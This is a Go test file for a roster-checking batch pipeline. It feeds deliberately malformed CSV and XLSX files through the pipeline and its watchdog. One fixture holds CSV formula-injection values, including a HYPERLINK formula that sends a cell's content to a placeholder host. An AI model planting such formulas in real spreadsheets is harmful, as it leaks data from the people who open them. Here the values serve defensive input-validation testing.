package main

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/parquet-go/parquet-go"
	"github.com/xuri/excelize/v2"

	"github.com/apbatch/apbatch/pipeline"
	"github.com/apbatch/apbatch/pipeline/ledger"
	"github.com/apbatch/apbatch/pipeline/s3"
	"github.com/apbatch/apbatch/schemas"
	"github.com/apbatch/apbatch/workers/sandbox"
)

// brokenFile is a roster with broken lines, as town halls' files come.
type brokenFile struct {
	name string
	body []byte
	// rows is how many data rows the file holds (blank lines aside); bad
	// lists the physical lines (header = 1) whose rows are invalid for
	// every check.
	rows int
	bad  []int
	// badQF lists the lines whose identity the quotient familial cannot
	// use (the other checks may read other columns).
	badQF []int
	// mayRefuse: the whole file may be refused (batch failed, with a
	// French reason) instead of read.
	mayRefuse bool
}

// corpusHeader names a column for every check, so that --checks all reads
// every file.
const corpusHeader = "reference;nom_naissance;nom_usage;prenoms;sexe;date_naissance;code_insee_pays_naissance;" +
	"code_insee_commune_naissance;ine;identifiant_france_travail;code_etablissement;annee_scolaire"

// corpusRow is a well-formed data line of corpusHeader, reference ref.
func corpusRow(ref, nom string) string {
	return ref + ";" + nom + ";;PIERRE;M;1987-06-27;99100;51108;;FT" + ref + ";0751234A;2026-2027"
}

// brokenCorpus returns the hostile files of issue 22: each a header, good
// lines and at least one broken one.
func brokenCorpus(t *testing.T) []brokenFile {
	t.Helper()
	lines := func(ls ...string) []byte { return []byte(strings.Join(ls, "\n") + "\n") }
	h, g := corpusHeader, corpusRow
	long := strings.Repeat("A", 1<<20)
	utf16 := func(s string) []byte {
		b := []byte{0xff, 0xfe}
		for _, r := range s {
			b = append(b, byte(r), byte(r>>8)) // the corpus is Latin-1 only
		}
		return append(b, 'x') // an odd length: a stray last byte
	}
	files := []brokenFile{
		{name: "separateur.csv", body: lines(h, g("A1", "MARTIN"), "A2,DURAND,,PAUL,M,1980-01-01,99100,51108,,FTA2,0751234A,2026-2027", g("A3", "PETIT")), rows: 3, bad: []int{3}},
		{name: "virgule.csv", body: lines(h, g("B1", "MARTIN"), "B2;GABRIEL;;Gabriel; Stéphane;M;1980-01-01;99100;51108;;FTB2;0751234A;2026-2027"), rows: 2, bad: []int{3}},
		{name: "guillemet.csv", body: lines(h, g("C1", "MARTIN"), `C2;MAR"TIN;;PAUL;M;1980-01-01;99100;51108;;FTC2;0751234A;2026-2027`, g("C3", "PETIT")), rows: 3, bad: []int{3}},
		{name: "guillemet-ouvert.csv", body: lines(h, g("D1", "MARTIN"), `D2;"MARTIN;;PAUL;M;1980-01-01;99100;51108;;FTD2;0751234A;2026-2027`, g("D3", "PETIT")), rows: 2, bad: []int{3}},
		{name: "retour-ligne.csv", body: lines(h, g("E1", "MARTIN"), "E2;\"DU\nRAND\";;PAUL;M;1980-01-01;99100;51108;;FTE2;0751234A;2026-2027", g("E3", "PETIT")), rows: 3},
		{name: "entete-repete.csv", body: lines(h, g("F1", "MARTIN"), h, g("F3", "PETIT")), rows: 3, bad: []int{3}},
		{name: "ligne-1mo.csv", body: lines(h, g("G1", "MARTIN"), "G2;"+long+";;PAUL;M;1980-01-01;99100;51108;;FTG2;0751234A;2026-2027", g("G3", "PETIT")), rows: 3, bad: []int{3}},
		{name: "crlf-mixte.csv", body: []byte(h + "\r\n" + g("H1", "MARTIN") + "\n" + g("H2", "DURAND") + "\r\n" + "H3;PETIT\r\n" + g("H4", "ROBERT") + "\n"), rows: 4, bad: []int{4}},
		{name: "nul.csv", body: lines(h, g("I1", "MARTIN"), g("I2", "DU\x00RAND"), g("I3", "PETIT")), rows: 3, bad: []int{3}},
		{name: "derniere-courte.csv", body: []byte(h + "\n" + g("J1", "MARTIN") + "\n" + "J2;DURAND;;PAUL"), rows: 2, bad: []int{3}},
		{name: "utf16-impair.csv", body: utf16(h + "\r\n" + g("K1", "MARTIN") + "\r\n" + "K2;DURAND\r\n" + g("K3", "PETIT") + "\r\n"), rows: 4, bad: []int{3, 5}},
		{name: "formules.csv", body: lines(h, g("L1", "MARTIN"), `L2;=HYPERLINK("http://exemple.invalid/?x="&B2;"clic");;PAUL;M;1980-01-01;99100;51108;;FTL2;0751234A;2026-2027`,
			"L3;+SUM(1);;@A1;M;1980-01-01;99100;51108;;FTL3;0751234A;2026-2027", "L4;-1+2;;PAUL;M;1980-01-01;99100;51108;;FTL4;0751234A;2026-2027", g("L5", "PETIT")), rows: 5, bad: []int{3}, badQF: []int{4, 5}},
		{name: "noms-1000.csv", body: lines(h, g("M1", "MARTIN"), g("M2", strings.Repeat("DURAND", 170)), "M3;PETIT;;"+strings.Repeat("Paul ", 200)+";M;1980-01-01;99100;51108;;FTM3;0751234A;2026-2027"), rows: 3, badQF: []int{3, 4}},
		{name: "trop-de-champs.csv", body: lines(h, g("N1", "MARTIN"), g("N2", "DURAND")+";en trop;encore", g("N3", "PETIT")), rows: 3, bad: []int{3}},
		{name: "lignes-vides.csv", body: lines(h, "", g("O1", "MARTIN"), ";;;;;;;;;;;", "O2", g("O3", "PETIT"), ""), rows: 3, bad: []int{5}},
		{name: "controle.csv", body: lines(h, g("P1", "MARTIN"), g("P2", "DU\x1bRAND"), g("P3", "PE\tTIT")), rows: 3, badQF: []int{3}},
		{name: "plage-max.xlsx", body: maxRangeWorkbook(t), rows: 3, bad: nil, mayRefuse: true},
	}
	return files
}

// maxRangeWorkbook is a small workbook whose sheet declares the largest
// range Excel allows (A1:XFD1048576).
func maxRangeWorkbook(t *testing.T) []byte {
	t.Helper()
	f := excelize.NewFile()
	for i, line := range []string{corpusHeader, corpusRow("Q1", "MARTIN"), corpusRow("Q2", "DURAND"), corpusRow("Q3", "PETIT")} {
		vals := strings.Split(line, ";")
		cells := make([]any, len(vals))
		for j, v := range vals {
			cells[j] = v
		}
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := f.SetSheetRow("Sheet1", cell, &cells); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if _, err := f.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	f.Close()
	// Rewrite the sheet's dimension.
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	dim := regexp.MustCompile(`<dimension ref="[^"]*"/>`)
	for _, zf := range zr.File {
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		if zf.Name == "xl/worksheets/sheet1.xml" {
			if dim.Match(b) {
				b = dim.ReplaceAll(b, []byte(`<dimension ref="A1:XFD1048576"/>`))
			} else {
				b = bytes.Replace(b, []byte("<sheetData"), []byte(`<dimension ref="A1:XFD1048576"/><sheetData`), 1)
			}
		}
		w, err := zw.Create(zf.Name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(b)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// writeCorpus writes the corpus's files under dir and returns their paths.
func writeCorpus(t *testing.T, dir string, files []brokenFile) []string {
	t.Helper()
	var paths []string
	for _, f := range files {
		p := filepath.Join(dir, f.name)
		if err := os.WriteFile(p, f.body, 0o600); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	return paths
}

// checkCorpusBatch checks one batch of the corpus: complete with rows ×
// checks results, each broken line invalid for every check with a
// message naming its line; or refused with a French reason where the file
// may be.
func checkCorpusBatch(t *testing.T, f brokenFile, b batchSummary, results []resultRow, checks int) {
	t.Helper()
	if b.State == ledger.StateFailed {
		if !f.mayRefuse {
			t.Errorf("%s: batch failed: %s", f.name, b.Error)
		} else if !strings.Contains(b.Error, f.name) {
			t.Errorf("%s: refused without naming the file: %q", f.name, b.Error)
		}
		return
	}
	if b.State != ledger.StateComplete {
		t.Errorf("%s: batch %s", f.name, b.State)
		return
	}
	if b.RowsTotal != int64(f.rows) || len(results) != f.rows*checks {
		t.Errorf("%s: %d rows, %d results; want %d rows × %d checks", f.name, b.RowsTotal, len(results), f.rows, checks)
	}
	seen := map[string]bool{}
	byLine := map[int64][]resultRow{}
	for _, r := range results {
		k := fmt.Sprint(r.RowNumber, r.Check)
		if seen[k] {
			t.Errorf("%s: row %d check %s twice", f.name, r.RowNumber, r.Check)
		}
		seen[k] = true
		byLine[r.RowNumber] = append(byLine[r.RowNumber], r)
	}
	for _, line := range f.badQF {
		found := false
		for _, r := range byLine[int64(line)] {
			if r.Check != string(schemas.CheckQuotientFamilial) {
				continue
			}
			found = true
			if r.Status != string(schemas.StatusInvalidInput) || r.ErrorMessage == nil || !strings.Contains(*r.ErrorMessage, fmt.Sprintf("ligne %d", line)) {
				t.Errorf("%s: line %d, quotient familial: %s %v", f.name, line, r.Status, r.ErrorMessage)
			}
		}
		if !found {
			t.Errorf("%s: line %d has no quotient familial result (lines with results: %v)", f.name, line, lineNumbers(byLine))
		}
	}
	for _, line := range f.bad {
		rs := byLine[int64(line)]
		if len(rs) != checks {
			t.Errorf("%s: line %d has %d results, want %d (lines with results: %v)", f.name, line, len(rs), checks, lineNumbers(byLine))
			continue
		}
		for _, r := range rs {
			msg := ""
			if r.ErrorMessage != nil {
				msg = *r.ErrorMessage
			}
			if r.Status != string(schemas.StatusInvalidInput) || !strings.Contains(msg, fmt.Sprintf("ligne %d", line)) {
				t.Errorf("%s: line %d, %s: %s %q", f.name, line, r.Check, r.Status, msg)
			}
			if len(msg) > 2000 {
				t.Errorf("%s: line %d: a message of %d bytes", f.name, line, len(msg))
			}
		}
	}
}

func lineNumbers[V any](m map[int64]V) []int64 { return slices.Sorted(maps.Keys(m)) }

// readBatchResults reads a batch's published parts from run's --out.
func readBatchResults(t *testing.T, outDir, batchID string) []resultRow {
	t.Helper()
	mb, err := os.ReadFile(filepath.Join(outDir, batchID, "_manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	var m schemas.Manifest
	if err := json.Unmarshal(mb, &m); err != nil {
		t.Fatal(err)
	}
	var all []resultRow
	for _, f := range m.Files {
		rows, err := parquet.ReadFile[resultRow](filepath.Join(outDir, batchID, filepath.Base(f.Key)))
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, rows...)
	}
	return all
}

// TestRun_BrokenLines drives `apbatch run` over the corpus, with the
// quotient familial and with every check: each run ends, with one result
// per row and check, broken lines invalid with their line.
func TestRun_BrokenLines(t *testing.T) {
	corpus := brokenCorpus(t)
	for _, tc := range []struct {
		checks string
		n      int
	}{{"qf", 1}, {"all", len(schemas.Checks)}} {
		t.Run(tc.checks, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
			defer cancel()
			dir := t.TempDir()
			outDir := filepath.Join(dir, "out")
			sumPath := filepath.Join(dir, "summary.json")
			paths := writeCorpus(t, dir, corpus)
			args := append([]string{"run", "--data-dir", filepath.Join(dir, "data"), "--out", outDir, "--summary-json", sumPath,
				"--flush-interval", "300ms", "--checks", tc.checks}, paths...)
			code, stdout, stderr := runApbatch(t, ctx, args...)
			if ctx.Err() != nil {
				t.Fatalf("run did not end: %s", stderr)
			}
			body, err := os.ReadFile(sumPath)
			if err != nil {
				t.Fatalf("exit %d, no summary (%v)\nstdout:\n%s\nstderr:\n%s", code, err, stdout, stderr)
			}
			var sum summary
			if err := json.Unmarshal(body, &sum); err != nil {
				t.Fatal(err)
			}
			if len(sum.Batches) != len(corpus) {
				t.Fatalf("%d batches for %d files\n%s", len(sum.Batches), len(corpus), stderr)
			}
			for _, f := range corpus {
				var b *batchSummary
				for i := range sum.Batches {
					if filepath.Base(sum.Batches[i].Source) == f.name {
						b = &sum.Batches[i]
					}
				}
				if b == nil {
					t.Errorf("%s: no batch", f.name)
					continue
				}
				var results []resultRow
				if b.State == ledger.StateComplete {
					results = readBatchResults(t, outDir, b.BatchID)
				}
				checkCorpusBatch(t, f, *b, results, tc.n)
			}
		})
	}
}

// TestServe_BrokenLines runs the corpus once through the role processes
// (ingest, work and write in `serve`), as a bucket's uploads start them.
func TestServe_BrokenLines(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	environ, client := roleServices(t, ctx)
	corpus := brokenCorpus(t)
	ids := map[string]string{}
	for _, f := range corpus {
		ids[f.name] = putRoster(t, ctx, client, "ville-a", f.name, f.body)
	}
	serveLog, stop := startServe(t, ctx, environ, "ingest,work,write")
	defer stop()
	store, err := ledger.Open(ctx, environ["APBATCH_DB"])
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	for _, f := range corpus {
		var b ledger.Batch
		for {
			b, err = store.Batch(ctx, ids[f.name])
			if err == nil && (b.State == ledger.StateComplete || b.State == ledger.StateFailed) {
				break
			}
			if ctx.Err() != nil {
				t.Fatalf("%s: batch not ended: %+v %v\n%s", f.name, b, err, serveLog.String())
			}
			time.Sleep(100 * time.Millisecond)
		}
		var results []resultRow
		if b.State == ledger.StateComplete {
			rows, err := pipeline.BatchResults(ctx, client, store, b.ID)
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range rows {
				results = append(results, resultRow{RowNumber: r.RowNumber, Check: r.Check, Status: r.Status, ErrorMessage: r.ErrorMessage})
			}
		}
		rows := int64(0)
		if b.RowsTotal != nil {
			rows = *b.RowsTotal
		}
		checkCorpusBatch(t, f, batchSummary{BatchID: b.ID, State: b.State, Error: b.Error, RowsTotal: rows}, results, 1)
	}
}

// roleServices starts a broker, an S3 server and a fast sandbox for role
// processes, and returns their environment and a client of the bucket.
func roleServices(t *testing.T, ctx context.Context) (map[string]string, *s3.Client) {
	t.Helper()
	dir := t.TempDir()
	broker, srv := embeddedServices(t, ctx, dir)
	api, tok := fastSandbox(t, sandbox.NewPopulation(20, 3))
	environ := map[string]string{
		"APBATCH_KAFKA_BROKERS": broker.Addrs()[0], "APBATCH_WATCH_INTERVAL": "200ms",
		"APBATCH_S3_ENDPOINT": srv.URL(), "APBATCH_S3_ACCESS_KEY": "k", "APBATCH_S3_SECRET_KEY": "s",
		"APBATCH_DB":           "sqlite://" + filepath.Join(dir, "ledger.db"),
		"APBATCH_PROVIDER_URL": api.URL, "APBATCH_TOKEN": tok, "APBATCH_RECIPIENT": "13002526500013",
		"APBATCH_AUDIT_KEY": strings.Repeat("34", 32), "APBATCH_KEK": strings.Repeat("5a", 32),
		"APBATCH_NO_MAINTENANCE_SKIP": "1", "APBATCH_LOG_LEVEL": "warn",
	}
	client, err := s3.NewClient(ctx, s3.Config{Endpoint: srv.URL(), Bucket: "apbatch", AccessKey: "k", SecretKey: "s"})
	if err != nil {
		t.Fatal(err)
	}
	if err := client.EnsureBucket(ctx); err != nil {
		t.Fatal(err)
	}
	return environ, client
}

// putRoster uploads a roster as a town would and returns its batch's id.
func putRoster(t *testing.T, ctx context.Context, client *s3.Client, tenant, name string, body []byte) string {
	t.Helper()
	key := pipeline.IncomingKey{Tenant: tenant, Campaign: "2026-09", File: name}.String()
	obj, err := client.Put(ctx, key, bytes.NewReader(body), int64(len(body)), "text/csv")
	if err != nil {
		t.Fatal(err)
	}
	return ledger.BatchID("apbatch", key, pipeline.ObjectVersion(obj.VersionID, obj.ETag, ""))
}

// startServe runs `apbatch serve --roles roles` in the test's process
// until stop, its logs in the buffer returned.
func startServe(t *testing.T, ctx context.Context, environ map[string]string, roles string) (*syncBuffer, func()) {
	t.Helper()
	ctx, cancel := context.WithCancel(ctx)
	serveLog := &syncBuffer{}
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		e := env{stdout: io.Discard, stderr: serveLog, getenv: func(k string) string { return environ[k] }}
		if code := runMain(ctx, e, []string{"serve", "--roles", roles, "--flush-interval", "300ms"}); code != 0 && ctx.Err() == nil {
			t.Errorf("serve: exit %d\n%s", code, serveLog.String())
		}
	}()
	return serveLog, func() { cancel(); wg.Wait() }
}

// TestWatchdog_Stalled: a batch no worker takes (the work role is not
// running) is logged once at error level and shown bloqué by status, with
// what to do; a batch whose jobs a worker holds is not.
func TestWatchdog_Stalled(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	environ, client := roleServices(t, ctx)
	environ["APBATCH_STALL_AFTER"] = "1s"
	id := putRoster(t, ctx, client, "ville-a", "cantine.csv", []byte(corpusHeader+"\n"+corpusRow("A1", "MARTIN")+"\n"))
	serveLog, stop := startServe(t, ctx, environ, "ingest,write")
	defer stop()
	for strings.Count(serveLog.String(), "batch stalled") == 0 {
		if ctx.Err() != nil {
			t.Fatalf("no stall logged:\n%s", serveLog.String())
		}
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(3 * time.Second) // the watchdog looks again, and says nothing more
	if n := strings.Count(serveLog.String(), "batch stalled"); n != 1 || !strings.Contains(serveLog.String(), `"level":"error"`) {
		t.Errorf("stall logged %d times:\n%s", n, serveLog.String())
	}
	e := env{stdout: &syncBuffer{}, stderr: &syncBuffer{}, getenv: func(k string) string { return environ[k] }}
	out := &syncBuffer{}
	e.stdout = out
	if code := runMain(ctx, e, []string{"status", id}); code != 0 || !strings.Contains(out.String(), "bloqué") ||
		!strings.Contains(out.String(), "apbatch cancel "+id) {
		t.Fatalf("status: exit %d\n%s", code, out.String())
	}

	// A worker holding its jobs keeps it alive.
	store, err := ledger.Open(ctx, environ["APBATCH_DB"])
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	if err := store.Active(ctx, []string{id}); err != nil {
		t.Fatal(err)
	}
	out2 := &syncBuffer{}
	e.stdout = out2
	if code := runMain(ctx, e, []string{"status", "--stall-after", "1m", id}); code != 0 || strings.Contains(out2.String(), "bloqué") {
		t.Fatalf("status of a held batch: exit %d\n%s", code, out2.String())
	}
}
